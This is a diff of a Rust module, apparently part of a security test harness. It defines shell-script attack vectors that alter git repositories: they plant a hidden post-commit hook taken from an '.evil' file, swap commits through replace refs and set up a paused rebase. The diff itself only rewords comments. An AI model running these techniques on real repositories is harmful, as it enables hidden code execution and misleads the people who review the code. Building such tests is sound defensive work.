@@ -1,10 +1,10 @@
-//! Files that leave every name of a commit as it is, and change what git on the host makes of it.
+//! Files that keep every name of a commit, and change what git on the host takes the commit to be.
 
 use super::vector::{Payload, Scope, Setting, Trick, Vector, compose};
 
 const PLAIN: Scope = Scope::PLAIN;
 
-/// The user has hooks in the work tree, and a rebase that waits before its last commit.
+/// User's preparation: hooks in the work tree, and a rebase that waits before its last commit.
 const REBASE: &str = r#"(
     cd w
     mkdir .githooks
@@ -19,13 +19,14 @@ const REBASE: &str = r#"(
     test -d .git/rebase-merge
 )"#;
 
-/// Sets the author, and makes `$scratch`. The control runs several scripts at once in the same `/tmp`.
+/// Script that sets the author and makes `$scratch`, which must be unique because the control runs
+/// several scripts concurrently in the same `/tmp`.
 const SET_UP: &str = "
 export GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x
 scratch=$(mktemp -d)
 trap 'rm -rf \"$scratch\"' EXIT";
 
-/// Makes `$other`, the commit `$picked` with one more hook.
+/// Script that makes `$other`, which is the commit `$picked` with additional hooks.
 const OTHER_COMMIT: &str = "
 hook=$(git hash-object -w \"$W/.evil/m\")
 export GIT_INDEX_FILE=$scratch/index
@@ -39,14 +40,15 @@ unset GIT_INDEX_FILE";
 const PICKED: &str = "
 picked=$(git rev-parse $(sed -n 's/^pick \\([0-9a-f]*\\).*/\\1/p' .git/rebase-merge/git-rebase-todo))";
 
-/// Renames the file that the next commit changes to the name of a hook, in the index.
+/// Script that renames the file that the next commit changes to the name of a hook, in the index.
 const RENAMED: &str = "
 hook=$( (cat .evil/m; echo exit; cat notes) | git hash-object -w --stdin)
 git rm -q notes
 git update-index --add --cacheinfo 100755,$hook,.githooks/post-commit
 git update-index --assume-unchanged .githooks/post-commit";
 
-/// Makes a repository that only a commit names, and has `git fetch` take that commit for new.
+/// Script that makes a repository that only a commit names, and makes `git fetch` take that commit
+/// as new.
 const FETCHED: &str = r#"
 for number in $(seq 100 145); do mkdir "0$number"; done
 git init -q z/lib
@@ -67,7 +69,7 @@ git symbolic-ref HEAD refs/heads/other
 git update-ref -d refs/heads/main
 rm -rf .git/packed-refs .git/refs/remotes"#;
 
-/// All vectors of this module.
+/// Returns all vectors of this module.
 pub(super) fn vectors() -> Vec<Vector> {
     let rebase = Scope { prepare: REBASE, ..PLAIN };
     let replace = "\ngit update-ref refs/replace/$picked $other";
